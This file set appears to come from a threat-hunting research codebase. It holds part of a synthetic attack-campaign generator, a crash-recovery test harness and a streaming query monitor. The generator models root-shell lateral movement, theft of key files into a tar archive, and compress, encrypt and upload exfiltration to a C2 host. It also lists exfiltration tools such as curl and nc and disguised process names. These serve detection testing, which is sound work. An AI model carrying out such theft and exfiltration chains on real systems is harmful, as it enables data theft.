            ctx.mark(builder.send(ssh, conn, amount=2048, malicious=True), "/usr/bin/ssh", target_ip)
            remote = builder.spawn_process(
                spec.shell, cmdline=f"{spec.shell} -i  # host-{hop + 2}", owner="root"
            )
            ctx.mark(builder.fork(ssh, remote, malicious=True), "/usr/bin/ssh", spec.shell)
            current = remote
        ctx.foothold = current


# ---------------------------------------------------------------------------
# Collection.
# ---------------------------------------------------------------------------


class CollectionStage(CampaignStage):
    """Scan for secrets on the final host and archive them."""

    name = "collection"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        shell = ctx.require_foothold()
        token = spec.staging.rsplit("-", 1)[-1]
        user = ctx.rng.choice(("alice", "bob", "carol", "dave"))
        secrets = [
            builder.file(f"/home/{user}/.keys-{token}/id-{index}.key")
            for index in range(ctx.rng.randint(4, 8))
        ]
        scout = builder.spawn_process(
            "/usr/bin/find", cmdline=f"find /home/{user} -name '*.key'", owner="root"
        )
        ctx.mark(builder.fork(shell, scout, malicious=True), spec.shell, "/usr/bin/find")
        for secret in secrets:
            ctx.mark(
                builder.read(scout, secret, amount=512, malicious=True),
                "/usr/bin/find",
                secret.name,
            )
        archiver = builder.spawn_process(
            "/bin/tar", cmdline=f"tar -cf {spec.staging}/loot.tar", owner="root"
        )
        archive = builder.file(f"{spec.staging}/loot.tar")
        ctx.mark(builder.fork(shell, archiver, malicious=True), spec.shell, "/bin/tar")
        for secret in secrets:
            ctx.mark(
                builder.read(archiver, secret, amount=512, malicious=True),
                "/bin/tar",
                secret.name,
            )
        ctx.mark(
            builder.write(archiver, archive, amount=512 * len(secrets), malicious=True),
            "/bin/tar",
            archive.name,
        )
        ctx.archive_path = archive.name


# ---------------------------------------------------------------------------
# Exfiltration.
# ---------------------------------------------------------------------------

#: File-name extension produced by each compressor tool.
COMPRESSOR_EXTENSIONS = {
    "/bin/bzip2": ".bz2",
    "/bin/gzip": ".gz",
    "/usr/bin/xz": ".xz",
    "/usr/bin/zstd": ".zst",
}


class ExfiltrationStage(CampaignStage):
    """Compress, encrypt and upload the collection archive to the C2 host.

    Publishes the campaign's ``exfiltration`` hunt: the six-step
    compress → encrypt → upload chain in the style of the paper's Figure 2
    query, parameterized by the campaign's tool and path choices.
    """

    name = "exfiltration"

    def generate(self, ctx: CampaignContext) -> None:
        builder, spec = ctx.builder, ctx.spec
        shell = ctx.require_foothold()
        if not ctx.archive_path:
            raise RuntimeError("stage ordering bug: exfiltration before collection")

        archive = builder.file(ctx.archive_path)
        compressed = builder.file(ctx.archive_path + COMPRESSOR_EXTENSIONS[spec.compressor])
        encrypted = builder.file(f"{spec.staging}/loot.enc")
        conn = builder.connection(dstip=spec.c2_ip, dstport=443)

        compressor = builder.spawn_process(
            spec.compressor, cmdline=f"{spec.compressor} {archive.name}", owner="root"
        )
        encryptor = builder.spawn_process(
            spec.encryptor, cmdline=f"{spec.encryptor} -c {compressed.name}", owner="root"
        )
        uploader = builder.spawn_process(
            spec.uploader, cmdline=f"{spec.uploader} {encrypted.name} {spec.c2_ip}", owner="root"
        )

        ctx.mark(builder.fork(shell, compressor, malicious=True), spec.shell, spec.compressor)
        read_archive = ctx.mark(
            builder.read(compressor, archive, amount=1 << 14, malicious=True),
            spec.compressor,
            archive.name,
        )
        write_compressed = ctx.mark(
            builder.write(compressor, compressed, amount=1 << 12, malicious=True),
            spec.compressor,
            compressed.name,
        )
        ctx.mark(builder.fork(shell, encryptor, malicious=True), spec.shell, spec.encryptor)
        read_compressed = ctx.mark(
            builder.read(encryptor, compressed, amount=1 << 12, malicious=True),
            spec.encryptor,
            compressed.name,
        )
        write_encrypted = ctx.mark(
            builder.write(encryptor, encrypted, amount=1 << 12, malicious=True),
            spec.encryptor,
            encrypted.name,
        )
        ctx.mark(builder.fork(shell, uploader, malicious=True), spec.shell, spec.uploader)
        read_encrypted = ctx.mark(
            builder.read(uploader, encrypted, amount=1 << 12, malicious=True),
            spec.uploader,
            encrypted.name,
        )
        connect = ctx.mark(
            builder.connect(uploader, conn, malicious=True), spec.uploader, spec.c2_ip
        )
        ctx.mark(
            builder.send(uploader, conn, amount=1 << 12, malicious=True),
            spec.uploader,
            spec.c2_ip,
        )

        query = (
            f'proc p1["%{spec.compressor}%"] read file f1["%{archive.name}%"] as exf1\n'
            f'proc p1 write file f2["%{compressed.name}%"] as exf2\n'
            f'proc p2["%{spec.encryptor}%"] read file f2 as exf3\n'
            f'proc p2 write file f3["%{encrypted.name}%"] as exf4\n'
            f'proc p3["%{spec.uploader}%"] read file f3 as exf5\n'
            f'proc p3 connect ip i1["{spec.c2_ip}"] as exf6\n'
            "with exf1 before exf2, exf2 before exf3, exf3 before exf4, "
            "exf4 before exf5, exf5 before exf6\n"
            "return distinct p1, f1, f2, p2, f3, p3, i1"
        )
        ctx.hunts.append(
            CampaignHunt(
                name="exfiltration",
                query_text=query,
                expected_event_ids=frozenset(
                    {
                        read_archive.event_id,
                        write_compressed.event_id,
                        read_compressed.event_id,
                        write_encrypted.event_id,
                        read_encrypted.event_id,
                        connect.event_id,
                    }
                ),
            )
        )


#: Variant pools the campaign generator draws from, keyed by stage slot.
INITIAL_ACCESS_VARIANTS: tuple[type[CampaignStage], ...] = (
    ShellshockAccess,
    SSHBruteforceAccess,
    SupplyChainAccess,
)
PERSISTENCE_VARIANTS: tuple[type[CampaignStage], ...] = (
    CronPersistence,
    ShellProfilePersistence,
    SystemdPersistence,
)
ESCALATION_VARIANTS: tuple[type[CampaignStage], ...] = (
    SudoersEscalation,
    SuidHelperEscalation,
)

#: Tool pools.  Roles used within one hunt chain draw from disjoint pools;
#: across chains an exe may repeat (e.g. curl as downloader *and* uploader) —
#: the conjunctive joins on the process variable keep each chain unambiguous,
#: so single-pattern hunts must not rely on an exe filter alone.
SHELLS = ("/bin/bash", "/bin/sh", "/bin/dash")
DOWNLOADERS = ("/usr/bin/wget", "/usr/bin/curl", "/usr/bin/ftp")
TOOL_NAMES = ("kworkerd", "udevd0", "syshelper", "crond2")
COMPRESSORS = tuple(COMPRESSOR_EXTENSIONS)
ENCRYPTORS = ("/usr/bin/gpg", "/usr/bin/openssl")
UPLOADERS = ("/usr/bin/curl", "/bin/nc", "/usr/bin/rsync", "/usr/bin/scp")
