"""Deterministic fault injection for the continuous hunting service.

Robustness claims are only as good as the faults they were tested against.
This module provides seeded, reproducible fault injectors for every failure
class the streaming subsystem hardens against, plus the crash-recovery
harness that proves the headline guarantee: **killing the service at any
micro-batch boundary and resuming it produces the exact same durable alert
journal as a run that was never interrupted**.

* :class:`FaultyStream` wraps a log stream and injects corrupt records and
  transient read ``OSError`` bursts on a seeded schedule.  Corrupt lines are
  *injected between* real records — never by mangling one — so the set of
  parseable events (and therefore the expected alerts) is unchanged while the
  parser's skip accounting and the source's retry machinery are exercised.
* :class:`FlakySink` makes alert delivery fail transiently on a seeded
  schedule; wrap it in :class:`~repro.streaming.alerts.RetryingSink` to test
  the sink-side retry path.
* :class:`CrashRecoveryHarness` runs a generated campaign to a chosen batch
  boundary with checkpointing and journaling on, abandons the process state
  (the crash), resumes from the checkpoint + journal, and compares the final
  journal **bytes** and matched event ids against an uninterrupted run.

Everything is parameterized by explicit seeds; two harness runs with the same
inputs inject the same faults at the same points.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Callable, Iterable

from repro.scenarios.campaign import GeneratedCampaign
from repro.streaming.alerts import Alert, AlertSink
from repro.streaming.checkpoint import CheckpointStore
from repro.streaming.journal import JournalSink
from repro.streaming.service import HuntingService
from repro.streaming.source import ReplaySource

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.pipeline import ThreatRaptor


@dataclass(frozen=True)
class FaultPlan:
    """A seeded schedule of injected faults.

    Attributes:
        seed: Seeds the injection RNG; same plan + same call sequence =
            same faults.
        corrupt_line_rate: Probability of injecting one garbage log line
            before a read.
        read_error_rate: Probability of starting a burst of transient
            ``OSError`` s on a read.
        read_error_burst: Consecutive failing reads per burst.  Keep it below
            the retry policy's ``max_attempts`` for survivable faults.
        sink_error_rate: Probability of starting a burst of failing alert
            deliveries.
        sink_error_burst: Consecutive failing deliveries per burst.
    """

    seed: int = 0
    corrupt_line_rate: float = 0.0
    read_error_rate: float = 0.0
    read_error_burst: int = 2
    sink_error_rate: float = 0.0
    sink_error_burst: int = 2


class FaultyStream:
    """A ``readline()`` wrapper injecting corrupt lines and transient errors.

    Wraps any object with a ``readline()`` method (an open file, a
    ``StringIO``) for use as ``LogTailSource(stream=...)``.  Injection stops
    once the underlying stream reaches EOF so bounded reads stay bounded.
    """

    def __init__(self, inner, plan: FaultPlan) -> None:
        self._inner = inner
        self._plan = plan
        self._rng = random.Random(plan.seed)
        self._pending_errors = 0
        self._eof = False
        #: Injected-fault accounting, for asserting nothing went unexplained.
        self.corrupt_lines = 0
        self.read_errors = 0

    def readline(self) -> str:
        if self._pending_errors > 0:
            self._pending_errors -= 1
            self.read_errors += 1
            raise OSError("injected transient read fault (burst)")
        if not self._eof:
            if self._rng.random() < self._plan.read_error_rate:
                self._pending_errors = max(0, self._plan.read_error_burst - 1)
                self.read_errors += 1
                raise OSError("injected transient read fault")
            if self._rng.random() < self._plan.corrupt_line_rate:
                self.corrupt_lines += 1
                return f"<<injected-corruption {self._rng.randrange(1 << 30)}>>\n"
        line = self._inner.readline()
        if not line:
            self._eof = True
        return line


class FlakySink(AlertSink):
    """An alert sink that fails transiently on a seeded schedule.

    Wrap it in :class:`~repro.streaming.alerts.RetryingSink` so delivery
    survives; alerts that make it through are collected in :attr:`delivered`.
    """

    def __init__(self, plan: FaultPlan) -> None:
        self._plan = plan
        self._rng = random.Random(plan.seed ^ 0x5F5E1)
        self._pending_errors = 0
        self.delivered: list[Alert] = []
        self.failures = 0

    def emit(self, alert: Alert) -> None:
        if self._pending_errors > 0:
            self._pending_errors -= 1
            self.failures += 1
            raise OSError("injected transient sink fault (burst)")
        if self._rng.random() < self._plan.sink_error_rate:
            self._pending_errors = max(0, self._plan.sink_error_burst - 1)
            self.failures += 1
            raise OSError("injected transient sink fault")
        self.delivered.append(alert)


@dataclass
class RecoveryOutcome:
    """One crash-and-resume run of a campaign."""

    campaign: str
    #: Micro-batch boundary the crash happened at (0 = right after hunt
    #: registration, before any batch).
    boundary: int
    #: Final journal file contents after the resumed run completed.
    journal_bytes: bytes
    #: Matched audit event ids per hunt after the resumed run.
    matched: dict[str, set[int]] = field(default_factory=dict)
    #: Whether the second service actually restored a checkpoint.
    resumed: bool = False
    #: Alerts the journal suppressed during replay (already delivered
    #: before the crash).
    suppressed: int = 0
    #: Entries the journal recovered from disk on resume.
    recovered_entries: int = 0


@dataclass
class RecoveryReport:
    """Crash-recovery equivalence results for one campaign."""

    campaign: str
    #: Journal bytes and matched ids of the uninterrupted reference run.
    baseline_journal: bytes
    baseline_matched: dict[str, set[int]]
    outcomes: list[RecoveryOutcome] = field(default_factory=list)

    def mismatches(self) -> list[str]:
        problems: list[str] = []
        for outcome in self.outcomes:
            if outcome.journal_bytes != self.baseline_journal:
                problems.append(
                    f"{self.campaign}@batch{outcome.boundary}: resumed journal differs "
                    f"from uninterrupted run ({len(outcome.journal_bytes)} vs "
                    f"{len(self.baseline_journal)} bytes)"
                )
            if outcome.matched != self.baseline_matched:
                problems.append(
                    f"{self.campaign}@batch{outcome.boundary}: matched event ids differ "
                    f"from uninterrupted run"
                )
        return problems

    @property
    def consistent(self) -> bool:
        return not self.mismatches()


class CrashRecoveryHarness:
    """Proves crash/resume equivalence for generated campaigns.

    Args:
        workdir: Directory for checkpoint/journal files (one subdirectory per
            crash point).
        batch_size: Streaming micro-batch size.
        pipeline_factory: Builds the :class:`ThreatRaptor` each service run
            uses (a *fresh* one per run — the crash loses the in-memory audit
            store, and recovery must not depend on it).  Defaults to a
            default-configured pipeline.
    """

    def __init__(
        self,
        workdir: str | Path,
        batch_size: int = 96,
        pipeline_factory: "Callable[[], ThreatRaptor] | None" = None,
    ) -> None:
        if pipeline_factory is None:
            def pipeline_factory():
                from repro.core.pipeline import ThreatRaptor

                return ThreatRaptor()
        self._workdir = Path(workdir)
        self._batch_size = batch_size
        self._factory = pipeline_factory

    # -- building blocks -----------------------------------------------------

    def batch_count(self, campaign: GeneratedCampaign) -> int:
        """Number of full micro-batches the campaign's replay produces."""
        events = len(campaign.trace.events)
        return (events + self._batch_size - 1) // self._batch_size

    def boundaries(self, campaign: GeneratedCampaign) -> range:
        """Every crash point: after registration (0) and after each batch."""
        return range(0, self.batch_count(campaign) + 1)

    def _service(
        self, directory: Path, resume: bool
    ) -> tuple[HuntingService, JournalSink]:
        store = CheckpointStore(directory)
        journal = JournalSink(directory / "alerts.jsonl")
        if resume:
            service = HuntingService.resume(
                store,
                raptor=self._factory(),
                batch_size=self._batch_size,
                journal=journal,
            )
        else:
            service = HuntingService(
                raptor=self._factory(),
                batch_size=self._batch_size,
                checkpoint_store=store,
                journal=journal,
            )
        return service, journal

    def _register(self, service: HuntingService, campaign: GeneratedCampaign) -> None:
        for hunt in campaign.hunts:
            if service.hunt(hunt.name) is None:
                service.register_hunt(hunt.name, query=hunt.query_text)

    @staticmethod
    def _matched(service: HuntingService, campaign: GeneratedCampaign) -> dict[str, set[int]]:
        return {hunt.name: service.matched_event_ids(hunt.name) for hunt in campaign.hunts}

    # -- runs ----------------------------------------------------------------

    def uninterrupted(self, campaign: GeneratedCampaign) -> tuple[bytes, dict[str, set[int]]]:
        """Reference run: no crash.  Returns (journal bytes, matched ids)."""
        directory = self._workdir / f"{campaign.name}-uninterrupted"
        service, journal = self._service(directory, resume=False)
        self._register(service, campaign)
        service.run(ReplaySource(campaign.trace))
        journal.close()
        return journal.path.read_bytes(), self._matched(service, campaign)

    def crash_and_resume(self, campaign: GeneratedCampaign, boundary: int) -> RecoveryOutcome:
        """Run to ``boundary`` batches, crash, resume, and finish the stream.

        The crash is modeled faithfully: the first service stops at the batch
        boundary without flushing, its in-memory state (audit store, monitor,
        ingestor) is discarded, and only what checkpoint + journal put on disk
        survives.  The resumed service re-runs the stream from the beginning —
        the audit store is in-memory, so recovery is replay + dedup.
        """
        directory = self._workdir / f"{campaign.name}-crash-at-{boundary}"
        before, journal_before = self._service(directory, resume=False)
        self._register(before, campaign)
        if boundary > 0:
            before.run(ReplaySource(campaign.trace), max_batches=boundary, flush=False)
        # The crash: everything in memory is gone.  (Closing the journal
        # handle is equivalent to losing it — every entry was fsynced.)
        journal_before.close()
        del before

        after, journal_after = self._service(directory, resume=True)
        self._register(after, campaign)  # no-op when the checkpoint had the hunts
        after.run(ReplaySource(campaign.trace))
        journal_after.close()
        return RecoveryOutcome(
            campaign=campaign.name,
            boundary=boundary,
            journal_bytes=journal_after.path.read_bytes(),
            matched=self._matched(after, campaign),
            resumed=after.resumed,
            suppressed=journal_after.suppressed,
            recovered_entries=journal_after.recovered_entries,
        )

    def verify(
        self, campaign: GeneratedCampaign, boundaries: Iterable[int] | None = None
    ) -> RecoveryReport:
        """Crash at every boundary (default: all of them) and compare each
        resumed run's journal and matches against the uninterrupted run."""
        baseline_journal, baseline_matched = self.uninterrupted(campaign)
        report = RecoveryReport(
            campaign=campaign.name,
            baseline_journal=baseline_journal,
            baseline_matched=baseline_matched,
        )
        points = self.boundaries(campaign) if boundaries is None else boundaries
        for boundary in points:
            report.outcomes.append(self.crash_and_resume(campaign, boundary))
        return report


__all__ = [
    "CrashRecoveryHarness",
    "FaultPlan",
    "FaultyStream",
    "FlakySink",
    "RecoveryOutcome",
    "RecoveryReport",
]
