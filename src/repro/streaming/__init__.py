"""Streaming ingestion and continuous hunting.

This package turns the batch ThreatRaptor pipeline into a continuously
running service:

* :mod:`repro.streaming.source` — where events come from (log tailing with
  incremental parsing, rotation/truncation detection and resumable offsets;
  workload replay);
* :mod:`repro.streaming.ingest` — micro-batched appends into both storage
  backends with incremental Causality Preserved Reduction;
* :mod:`repro.streaming.monitor` — standing TBQL queries re-evaluated per
  batch with watermark windowing, alert deduplication, and quarantine of
  hunts that keep failing;
* :mod:`repro.streaming.alerts` — structured alerts and delivery sinks;
* :mod:`repro.streaming.retry` — deterministic retry policy shared by
  sources and sinks;
* :mod:`repro.streaming.checkpoint` — versioned, atomically-written
  snapshots of the standing state;
* :mod:`repro.streaming.journal` — durable append-only alert journal with
  exactly-once delivery across restarts;
* :mod:`repro.streaming.service` — the :class:`HuntingService` facade tying
  it all together (``raptor.watch(...)`` returns one;
  ``HuntingService.resume(...)`` rebuilds one after a crash).
"""

from repro.streaming.alerts import (
    Alert,
    AlertSink,
    CallbackSink,
    JSONLSink,
    ListSink,
    RetryingSink,
)
from repro.streaming.checkpoint import CHECKPOINT_VERSION, CheckpointStore
from repro.streaming.ingest import IngestStatistics, IngestedBatch, StreamIngestor
from repro.streaming.journal import JournalSink
from repro.streaming.monitor import QueryMonitor, StandingQuery
from repro.streaming.retry import RetryPolicy, RetryStats
from repro.streaming.service import HuntingService
from repro.streaming.source import (
    EventSource,
    LogTailSource,
    ReplaySource,
    StreamRecord,
    iter_batches,
)

__all__ = [
    "Alert",
    "AlertSink",
    "CHECKPOINT_VERSION",
    "CallbackSink",
    "CheckpointStore",
    "EventSource",
    "HuntingService",
    "IngestStatistics",
    "IngestedBatch",
    "JSONLSink",
    "JournalSink",
    "ListSink",
    "LogTailSource",
    "QueryMonitor",
    "ReplaySource",
    "RetryPolicy",
    "RetryStats",
    "RetryingSink",
    "StandingQuery",
    "StreamIngestor",
    "StreamRecord",
    "iter_batches",
]
