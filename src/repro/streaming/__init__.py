"""Streaming ingestion and continuous hunting.

This package turns the batch ThreatRaptor pipeline into a continuously
running service:

* :mod:`repro.streaming.source` — where events come from (log tailing with
  incremental parsing, workload replay);
* :mod:`repro.streaming.ingest` — micro-batched appends into both storage
  backends with incremental Causality Preserved Reduction;
* :mod:`repro.streaming.monitor` — standing TBQL queries re-evaluated per
  batch with watermark windowing and alert deduplication;
* :mod:`repro.streaming.alerts` — structured alerts and delivery sinks;
* :mod:`repro.streaming.service` — the :class:`HuntingService` facade tying
  it all together (``raptor.watch(...)`` returns one).
"""

from repro.streaming.alerts import Alert, AlertSink, CallbackSink, JSONLSink, ListSink
from repro.streaming.ingest import IngestStatistics, IngestedBatch, StreamIngestor
from repro.streaming.monitor import QueryMonitor, StandingQuery
from repro.streaming.service import HuntingService
from repro.streaming.source import (
    EventSource,
    LogTailSource,
    ReplaySource,
    StreamRecord,
    iter_batches,
)

__all__ = [
    "Alert",
    "AlertSink",
    "CallbackSink",
    "EventSource",
    "HuntingService",
    "IngestStatistics",
    "IngestedBatch",
    "JSONLSink",
    "ListSink",
    "LogTailSource",
    "QueryMonitor",
    "ReplaySource",
    "StandingQuery",
    "StreamIngestor",
    "StreamRecord",
    "iter_batches",
]
