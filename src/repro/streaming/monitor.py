"""Standing TBQL queries, re-evaluated incrementally per micro-batch.

A registered hunt keeps its synthesized TBQL query *standing*: after every
ingested micro-batch the query is re-executed and any **new** matches are
turned into alerts.  Two mechanisms keep that cheap and exact:

* **Watermark windowing** — because ingestion appends events in time order,
  every match that is new in a batch must bind at least one newly stored
  event; and when the query's ``with`` clause orders every pattern before a
  unique final pattern (the *temporal sink*, e.g. ``evt8`` in the Figure 2
  query), that sink's event must itself start at or after the batch's
  watermark.  The monitor therefore narrows the sink pattern to the window
  ``[watermark, ∞)``, so each re-evaluation scans only new data and constrains
  the remaining patterns from it, instead of re-running the query over the
  whole store.
* **Alert deduplication** — matches are identified by the set of audit event
  ids they bind; signatures already seen (including ones re-found because the
  watermark had to be conservative) are suppressed, so a match alerts exactly
  once no matter how many batches re-find it.

Graph-backed hunts (path patterns, or everything under ``backend="graph"``)
are evaluated **incrementally** through the same watermark window: because
path edges are temporally non-decreasing, any match that binds an edge
appended in the current micro-batch must have its *final hop* start at or
after the watermark, so narrowing the sink to ``[watermark, ∞)`` lets the
cost-guided planner (:mod:`repro.storage.graph.planner`) seed the search from
the graph's time index — only the new edges are explored, outward and
backward, instead of re-enumerating every path in the graph.  The planner's
strategy per evaluation is recorded on the hunt
(:attr:`StandingQuery.last_graph_plans`) so incrementality is observable.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field as dataclass_field
from dataclasses import replace
from typing import TYPE_CHECKING, Any, Callable, Iterable

from repro.auditing.entities import DEFAULT_ATTRIBUTE, EntityType
from repro.streaming.alerts import Alert
from repro.tbql.ast import Query, TimeWindow
from repro.tbql.formatter import format_query
from repro.tbql.parser import parse_query
from repro.tbql.result import TBQLResult

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.tbql.analysis.diagnostics import AnalysisReport
    from repro.tbql.prepared import PreparedExecution

#: Upper bound used for open-ended watermark windows.
MAX_TIME_NS = 2**63 - 1


@dataclass
class StandingQuery:
    """One registered hunt and its incremental evaluation state."""

    name: str
    query: Query
    query_text: str
    #: Event id of the temporal sink pattern (see module docstring), or
    #: ``None`` when the query has no unique temporally-final pattern — such
    #: hunts fall back to full re-evaluation plus deduplication.
    sink_event_id: str | None = None
    #: The query's prepared form (analysis + schedule + compiled per-pattern
    #: plans, derived once at registration).  ``None`` when the monitor was
    #: constructed without a ``prepare`` callable; such hunts re-derive the
    #: windowed query per batch.
    prepared: "PreparedExecution | None" = None
    #: Static-analysis report from registration, when the monitor was built
    #: with an ``analyze`` callable.  A report carrying error diagnostics
    #: quarantines the hunt at registration time (instead of letting an
    #: unsatisfiable or non-portable query fail on every batch).
    analysis: "AnalysisReport | None" = None
    #: Ids of the OSCTI reports this hunt stands for (corpus provenance);
    #: stamped onto every raised alert.  Grows when later corpus passes dedup
    #: an equivalent report onto this hunt.
    provenance: tuple[str, ...] = ()
    #: The query's canonical dedup key (see :mod:`repro.tbql.canonical`), when
    #: the registrar computed one; corpus registration uses it to route
    #: equivalent queries onto existing hunts.
    canonical_key: str | None = None
    evaluations: int = 0
    eval_seconds: float = 0.0
    alerts_raised: int = 0
    #: Total evaluation failures over the hunt's lifetime, and how many of
    #: them were consecutive (the quarantine trigger).  A hunt whose
    #: evaluation raises is *degraded*, not fatal: the monitor records the
    #: error and keeps the service alive.
    errors: int = 0
    consecutive_errors: int = 0
    last_error: str | None = None
    #: Set after ``quarantine_after`` consecutive failures; a quarantined
    #: hunt is skipped by :meth:`QueryMonitor.evaluate` until
    #: :meth:`QueryMonitor.reinstate` clears it.
    quarantined: bool = False
    #: Graph planner EXPLAIN summaries from the most recent evaluation, keyed
    #: by pattern event id.  After the first (full) evaluation of a
    #: graph-backed hunt these should report the ``window-seeded`` strategy —
    #: the observable sign that per-batch work tracks the delta, not the graph.
    last_graph_plans: dict[str, Any] = dataclass_field(default_factory=dict)
    _seen_signatures: set[tuple[int, ...]] = dataclass_field(default_factory=set)
    _matched_event_ids: set[int] = dataclass_field(default_factory=set)
    _initialized: bool = False

    def matched_event_ids(self) -> set[int]:
        """Union of audit event ids matched by this hunt so far."""
        return set(self._matched_event_ids)

    @property
    def status(self) -> str:
        """``"ok"``, ``"degraded"`` (errors seen) or ``"quarantined"``."""
        if self.quarantined:
            return "quarantined"
        return "degraded" if self.errors else "ok"

    # -- checkpoint/restore --------------------------------------------------

    def snapshot(self) -> dict[str, Any]:
        """JSON-serialisable restart state (everything but the store's data).

        Signatures are restart-stable by construction — sorted audit event
        ids (``evt.num`` values from the log), never interpreter-run-specific
        values like ``id()`` or seeded hashes — so a snapshot written by one
        process deduplicates matches re-found by the next.
        """
        return {
            "name": self.name,
            "query_text": self.query_text,
            "provenance": list(self.provenance),
            "canonical_key": self.canonical_key,
            "evaluations": self.evaluations,
            "alerts_raised": self.alerts_raised,
            "errors": self.errors,
            "last_error": self.last_error,
            "quarantined": self.quarantined,
            "seen_signatures": sorted(list(sig) for sig in self._seen_signatures),
            "matched_event_ids": sorted(self._matched_event_ids),
        }

    def restore(self, snapshot: dict[str, Any]) -> None:
        """Adopt the counters and dedup state of ``snapshot``.

        ``_initialized`` stays False: after a restart the audit store is
        empty and must be re-ingested, so the first evaluation scans
        everything rather than trusting a stale watermark.
        """
        self.evaluations = int(snapshot.get("evaluations", 0))
        self.alerts_raised = int(snapshot.get("alerts_raised", 0))
        self.errors = int(snapshot.get("errors", 0))
        self.last_error = snapshot.get("last_error")
        self.quarantined = bool(snapshot.get("quarantined", False))
        self._seen_signatures = {
            tuple(int(event_id) for event_id in signature)
            for signature in snapshot.get("seen_signatures", ())
        }
        self._matched_event_ids = {
            int(event_id) for event_id in snapshot.get("matched_event_ids", ())
        }
        self._initialized = False

    def absorb_signatures(self, signatures: Iterable[Iterable[int]]) -> int:
        """Mark signatures as already alerted without raising anything.

        Used on resume to merge the alert journal's durable record into the
        dedup state: an alert that reached the journal after the last
        checkpoint must not be re-emitted when replayed batches re-find it.
        Returns how many signatures were new to this hunt.
        """
        absorbed = 0
        for raw in signatures:
            signature = tuple(sorted(int(event_id) for event_id in raw))
            if signature in self._seen_signatures:
                continue
            self._seen_signatures.add(signature)
            self._matched_event_ids.update(signature)
            self.alerts_raised += 1
            absorbed += 1
        return absorbed


class QueryMonitor:
    """Evaluates standing queries against the store after each batch.

    Args:
        execute: Query execution callable, typically
            :meth:`ThreatRaptor.execute_query` or an engine's ``execute``.
        prepare: Optional query preparation callable (typically
            :meth:`ThreatRaptor.prepare_query`).  When given, every registered
            hunt is prepared once and each batch executes the cached plans
            with only the watermark window swapped in, instead of re-deriving
            analysis/schedule/compilation per micro-batch.
        quarantine_after: Consecutive evaluation failures after which a hunt
            is quarantined (skipped) instead of crashing the service on every
            batch.  A failing evaluation never propagates; it is counted on
            the hunt and surfaced through ``statistics()``.
        analyze: Optional static-analysis callable (typically
            :meth:`ThreatRaptor.analyze_query`).  When given, every query is
            analyzed at registration; a query with error-severity diagnostics
            is registered **quarantined** — it stays visible (name,
            provenance, diagnostics) but is never evaluated, reusing the same
            status machinery as runtime failures.
    """

    def __init__(
        self,
        execute: Callable[[Query], TBQLResult],
        prepare: "Callable[[Query], PreparedExecution] | None" = None,
        quarantine_after: int = 3,
        analyze: "Callable[[Query], AnalysisReport] | None" = None,
    ) -> None:
        if quarantine_after < 1:
            raise ValueError("quarantine_after must be at least 1")
        self._execute = execute
        self._prepare = prepare
        self._analyze = analyze
        self._quarantine_after = quarantine_after
        self._queries: dict[str, StandingQuery] = {}
        #: canonical key -> hunt name, for O(1) corpus dedup routing.  The
        #: first registration of a key wins, matching the scan it replaces.
        self._names_by_canonical: dict[str, str] = {}

    # -- registration --------------------------------------------------------

    def register(
        self,
        name: str,
        query: Query | str,
        provenance: Iterable[str] = (),
        canonical_key: str | None = None,
    ) -> StandingQuery:
        """Register a standing query under ``name``.

        Args:
            name: Unique hunt name.
            query: TBQL source text or AST.
            provenance: Ids of the OSCTI reports the query stands for; carried
                onto every alert the hunt raises.
            canonical_key: Optional canonical dedup key of the query (corpus
                registration routes equivalent queries by it).

        Raises:
            ValueError: if the name is already taken.
        """
        if name in self._queries:
            raise ValueError(f"a standing query named {name!r} is already registered")
        ast = parse_query(query) if isinstance(query, str) else query
        analysis = self._analyze(ast) if self._analyze is not None else None
        if analysis is not None and analysis.has_errors():
            # Lint-rejected: register quarantined, never prepare or evaluate.
            # The hunt stays visible with its provenance and diagnostics so
            # operators can see *why* it will never fire.
            summary = "; ".join(
                f"[{diagnostic.rule}] {diagnostic.message}"
                for diagnostic in analysis.errors
            )
            standing = StandingQuery(
                name=name,
                query=ast,
                query_text=format_query(ast),
                sink_event_id=None,
                prepared=None,
                analysis=analysis,
                provenance=tuple(provenance),
                canonical_key=canonical_key,
                errors=1,
                last_error=f"static analysis: {summary}",
                quarantined=True,
            )
            self._queries[name] = standing
            if canonical_key is not None:
                self._names_by_canonical.setdefault(canonical_key, name)
            return standing
        sink_event_id = self._temporal_sink(ast)
        prepared = None
        if self._prepare is not None:
            # The sink pattern is hinted as windowed so the prepared schedule
            # matches what per-batch re-scheduling of the watermark-narrowed
            # query would produce (the windowed sink runs first and constrains
            # the remaining patterns).
            hints = (sink_event_id,) if sink_event_id is not None else ()
            prepared = self._prepare(ast, window_hints=hints)
        standing = StandingQuery(
            name=name,
            query=ast,
            query_text=format_query(ast),
            sink_event_id=sink_event_id,
            prepared=prepared,
            analysis=analysis,
            provenance=tuple(provenance),
            canonical_key=canonical_key,
        )
        self._queries[name] = standing
        if canonical_key is not None:
            self._names_by_canonical.setdefault(canonical_key, name)
        return standing

    def unregister(self, name: str) -> None:
        standing = self._queries.pop(name, None)
        if (
            standing is not None
            and standing.canonical_key is not None
            and self._names_by_canonical.get(standing.canonical_key) == name
        ):
            # Re-point the routing at a surviving hunt with the same key (two
            # hunts can share one when both were registered directly), so
            # corpus passes keep deduping onto it instead of re-registering.
            survivor = next(
                (
                    other.name
                    for other in self._queries.values()
                    if other.canonical_key == standing.canonical_key
                ),
                None,
            )
            if survivor is None:
                del self._names_by_canonical[standing.canonical_key]
            else:
                self._names_by_canonical[standing.canonical_key] = survivor

    def extend_provenance(self, name: str, report_ids: Iterable[str]) -> StandingQuery:
        """Append report ids to a hunt's provenance (duplicates skipped)."""
        standing = self._queries[name]
        merged = list(standing.provenance)
        for report_id in report_ids:
            if report_id not in merged:
                merged.append(report_id)
        standing.provenance = tuple(merged)
        return standing

    def by_canonical_key(self, canonical_key: str) -> StandingQuery | None:
        """The registered hunt carrying ``canonical_key``, if any."""
        name = self._names_by_canonical.get(canonical_key)
        return self._queries.get(name) if name is not None else None

    @property
    def queries(self) -> list[StandingQuery]:
        return list(self._queries.values())

    def query(self, name: str) -> StandingQuery:
        return self._queries[name]

    def get(self, name: str) -> StandingQuery | None:
        """The hunt called ``name``, or ``None`` when not registered."""
        return self._queries.get(name)

    # -- checkpoint/restore --------------------------------------------------

